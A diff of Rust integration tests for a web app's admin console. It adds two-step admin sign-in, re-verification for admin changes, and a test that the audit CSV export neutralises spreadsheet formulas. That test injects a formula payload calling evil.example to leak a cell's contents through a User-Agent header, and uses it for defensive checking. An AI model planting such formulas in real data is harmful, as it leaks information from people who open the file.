@@ -99,7 +99,11 @@ async fn every_admin_server_function_refuses_everyone_but_administrators() -> Te
         // Her first app password (id 1), for the administrator to revoke.
         let (ada, _) = support::app_password_for(&backend, "ada@contoso.example", "Mail").await?;
         let app = router(support::state(backend.clone()));
-        let admin = session_of(&backend, "admin@contoso.example").await?;
+        // With two steps: the first call makes the organization require them.
+        let (admin, _) =
+            support::signed_in_with_authenticator(&backend, "admin@contoso.example", "192.0.2.1")
+                .await?;
+        let admin = admin.session_token.ok_or("no session")?;
         let person = ada.session_token.ok_or("no session")?;
 
         let registered: Vec<&str> = leptos::server_fn::axum::server_fn_paths()
@@ -191,10 +195,10 @@ async fn an_administrator_turns_settings_on_and_off() -> TestResult {
     for database in TestDatabase::all().await {
         let backend = support::backend(&database).await;
         support::set_up_organization(&backend).await;
-        let admin = context(
-            "192.0.2.1",
-            Some(&session_of(&backend, "admin@contoso.example").await?),
-        );
+        // With two steps: turning "require two-step" on must not lock the administrator out.
+        let (admin, _) =
+            support::signed_in_with_authenticator(&backend, "admin@contoso.example", "192.0.2.1")
+                .await?;
         let before = backend.organization_settings(&admin).await?;
         assert_eq!(before.name, "Contoso");
         assert!(before.is_on(PolicySetting::AllowAppPasswords));
@@ -203,7 +207,12 @@ async fn an_administrator_turns_settings_on_and_off() -> TestResult {
         for setting in PolicySetting::ALL {
             let on = before.is_on(setting);
             let after = backend
-                .set_organization_setting(&admin, setting, !on)
+                .set_organization_setting(
+                    &admin,
+                    setting,
+                    !on,
+                    &app::model::IdentityCheck::default(),
+                )
                 .await?;
             assert_eq!(after.is_on(setting), !on, "{}: {setting:?}", database.name);
         }
@@ -278,29 +287,59 @@ async fn people_are_found_by_the_start_of_their_names_a_page_at_a_time() -> Test
             .await?;
         let ada = "ada_lovelace@contoso.example";
         let signed_out = backend
-            .act_on_person(&admin, ada, PersonAction::SignOutEverywhere)
+            .act_on_person(
+                &admin,
+                ada,
+                PersonAction::SignOutEverywhere,
+                &app::model::IdentityCheck::default(),
+            )
             .await?;
         assert_eq!(signed_out.username, ada);
         let disabled = backend
-            .act_on_person(&admin, ada, PersonAction::Disable)
+            .act_on_person(
+                &admin,
+                ada,
+                PersonAction::Disable,
+                &app::model::IdentityCheck::default(),
+            )
             .await?;
         assert!(!disabled.is_enabled);
         let enabled = backend
-            .act_on_person(&admin, ada, PersonAction::Enable)
+            .act_on_person(
+                &admin,
+                ada,
+                PersonAction::Enable,
+                &app::model::IdentityCheck::default(),
+            )
             .await?;
         assert!(enabled.is_enabled);
         let made = backend
-            .act_on_person(&admin, ada, PersonAction::MakeAdministrator)
+            .act_on_person(
+                &admin,
+                ada,
+                PersonAction::MakeAdministrator,
+                &app::model::IdentityCheck::default(),
+            )
             .await?;
         assert!(made.is_admin);
         backend
-            .act_on_person(&admin, ada, PersonAction::RemoveAdministrator)
+            .act_on_person(
+                &admin,
+                ada,
+                PersonAction::RemoveAdministrator,
+                &app::model::IdentityCheck::default(),
+            )
             .await?;
         // The last administrator stays one, and enabled.
         for action in [PersonAction::RemoveAdministrator, PersonAction::Disable] {
             assert_eq!(
                 backend
-                    .act_on_person(&admin, "admin@contoso.example", action)
+                    .act_on_person(
+                        &admin,
+                        "admin@contoso.example",
+                        action,
+                        &app::model::IdentityCheck::default()
+                    )
                     .await
                     .err(),
                 Some(app::error::AppError::Forbidden(
@@ -311,7 +350,12 @@ async fn people_are_found_by_the_start_of_their_names_a_page_at_a_time() -> Test
         }
         assert_eq!(
             backend
-                .act_on_person(&admin, "nobody@contoso.example", PersonAction::Enable)
+                .act_on_person(
+                    &admin,
+                    "nobody@contoso.example",
+                    PersonAction::Enable,
+                    &app::model::IdentityCheck::default()
+                )
                 .await
                 .err(),
             Some(app::error::AppError::NotFound)
@@ -541,6 +585,172 @@ async fn the_people_search_uses_the_indexes_with_100_000_people() -> TestResult 
             at(0.99).as_secs_f64() * 1000.0,
             durations[durations.len() - 1].as_secs_f64() * 1000.0,
         );
+    }
+    Ok(())
+}
+
+/// Cells that a spreadsheet reads as a formula.
+fn begins_like_a_formula(cell: &str) -> bool {
+    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
+}
+
+#[tokio::test]
+async fn the_audit_csv_export_never_holds_a_spreadsheet_formula() -> TestResult {
+    const FORMULA: &str = "=HYPERLINK(\"https://evil.example/?\"&A2,\"details\")";
+    const NAME: &str = "-2+3@contoso.example";
+    for database in TestDatabase::all().await {
+        let backend = support::backend(&database).await;
+        support::set_up_organization(&backend).await;
+        support::add_user(&backend, NAME).await;
+        let app = router(support::state(backend.clone()));
+        let admin = session_of(&backend, "admin@contoso.example").await?;
+
+        // An outsider's failed sign-in: its User-Agent goes into the audit log as the client.
+        let mut sign_in = Request::post("/api/sign_in")
+            .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
+            .header(header::ACCEPT, "application/json")
+            .header("Sec-Fetch-Site", "same-origin")
+            .header(header::USER_AGENT, FORMULA)
+            .body(Body::from(serde_urlencoded::to_string([
+                ("username", NAME),
+                ("password", "not the password at all"),
+            ])?))?;
+        sign_in
+            .extensions_mut()
+            .insert(axum::extract::ConnectInfo(std::net::SocketAddr::from((
+                [198, 51, 100, 66],
+                40000,
+            ))));
+        let refused = app.clone().oneshot(sign_in).await?;
+        assert_eq!(
+            refused.status(),
+            StatusCode::UNAUTHORIZED,
+            "{}",
+            database.name
+        );
+
+        let export = Request::get("/admin/audit.csv")
+            .header(
+                header::COOKIE,
+                format!("{}={admin}", server::use_cases::SESSION_COOKIE),
+            )
+            .body(Body::empty())?;
+        let response = app.clone().oneshot(export).await?;
+        assert_eq!(response.status(), StatusCode::OK);
+        let text = axum::body::to_bytes(response.into_body(), 1 << 20).await?;
+        let mut reader = csv::Reader::from_reader(text.as_ref());
+        let rows: Vec<csv::StringRecord> = reader.records().collect::<Result<_, _>>()?;
+        let failed = rows
+            .iter()
+            .find(|row| &row[3] == "sign_in.failed")
+            .ok_or("no failed sign-in in the export")?;
+        assert_eq!(&failed[2], format!("'{NAME}"), "{}", database.name);
+        assert_eq!(&failed[6], format!("'{FORMULA}"), "{}", database.name);
+        for row in &rows {
+            assert!(
+                !row.iter().any(begins_like_a_formula),
+                "{}: a formula in {row:?}",
+                database.name
+            );
+        }
+    }
+    Ok(())
+}
+
+/// The admin console's changes (every `/api/admin*` function but the reading ones).
+const ADMIN_CHANGES: &[&str] = &[
+    "/api/admin_set_organization_setting",
+    "/api/admin_revoke_app_password",
+    "/api/admin_add_person",
+    "/api/admin_reset_password",
+    "/api/admin_act_on_person",
+];
+
+#[tokio::test]
+async fn every_admin_change_needs_a_recent_sign_in_or_the_password_and_code() -> TestResult {
+    for database in TestDatabase::all().await {
+        let backend = support::backend(&database).await;
+        support::set_up_organization(&backend).await;
+        support::add_user(&backend, "ada@contoso.example").await;
+        support::add_user(&backend, "bob@contoso.example").await;
+        support::app_password_for(&backend, "ada@contoso.example", "Mail").await?;
+        let app = router(support::state(backend.clone()));
+        let (admin_ctx, secret) =
+            support::signed_in_with_authenticator(&backend, "admin@contoso.example", "192.0.2.1")
+                .await?;
+        let admin = admin_ctx.session_token.clone().ok_or("no session")?;
+        let session_id = backend
+            .signed_in(&admin_ctx)
+            .await?
+            .ok_or("signed in")?
+            .session
+            .id;
+        let age = || async {
+            backend
+                .store
+                .mark_session_verified(
+                    session_id,
+                    chrono::Utc::now() - chrono::Duration::minutes(11),
+                )
+                .await
+        };
+        let changes: Vec<&(&str, &[(&str, &str)])> = ADMIN_CALLS
+            .iter()
+            .filter(|(path, _)| ADMIN_CHANGES.contains(path))
+            .collect();
+        assert_eq!(changes.len(), ADMIN_CHANGES.len());
+        // Reading needs no recent sign-in, and says it is not recent.
+        age().await?;
+        let settings = backend.organization_settings(&admin_ctx).await?;
+        assert!(!settings.recently_signed_in && settings.has_two_step);
+        let events_before = backend.store.audit_events(None, None).await?.len();
+        for (path, fields) in &changes {
+            let (status, body) = call(&app, path, fields, Some(&admin)).await?;
+            assert_eq!(
+                (status, body.contains("ReverifyRequired")),
+                (StatusCode::FORBIDDEN, true),
+                "{}: {path} 11 minutes after sign-in: {body}",
+                database.name
+            );
+        }
+        let events = backend.store.audit_events(None, None).await?;
+        assert_eq!(events.len(), events_before, "nothing changed");
+
+        // One prompt in the same request: a wrong password, then no code, then both.
+        let (path, fields) = changes[0];
+        let with = |extra: &[(&'static str, String)]| {
+            let mut all: Vec<(&str, String)> =
+                fields.iter().map(|(k, v)| (*k, (*v).to_owned())).collect();
+            all.extend(extra.iter().cloned());
+            all
+        };
+        for (extra, expected) in [
+            (
+                vec![("password", "not my password at all".to_owned())],
+                "Your password is incorrect",
+            ),
+            (vec![("password", PASSWORD.to_owned())], "code"),
+        ] {
+            let form = with(&extra);
+            let form: Vec<(&str, &str)> = form.iter().map(|(k, v)| (*k, v.as_str())).collect();
+            let (status, body) = call(&app, path, &form, Some(&admin)).await?;
+            assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{path}: {body}");
+            assert!(body.contains(expected), "{path}: {body}");
+        }
+        let code = support::code_for(&secret, support::now_unix() + 30)?;
+        let form = with(&[("password", PASSWORD.to_owned()), ("code", code)]);
+        let form: Vec<(&str, &str)> = form.iter().map(|(k, v)| (*k, v.as_str())).collect();
+        let (status, body) = call(&app, path, &form, Some(&admin)).await?;
+        assert_eq!(status, StatusCode::OK, "{path}: {body}");
+        // Confirmed: the next 10 minutes need nothing more.
+        for (path, fields) in &changes[1..] {
+            let (status, body) = call(&app, path, fields, Some(&admin)).await?;
+            assert_eq!(
+                status,
+                StatusCode::OK,
+                "{path} just after confirming: {body}"
+            );
+        }
     }
     Ok(())
 }
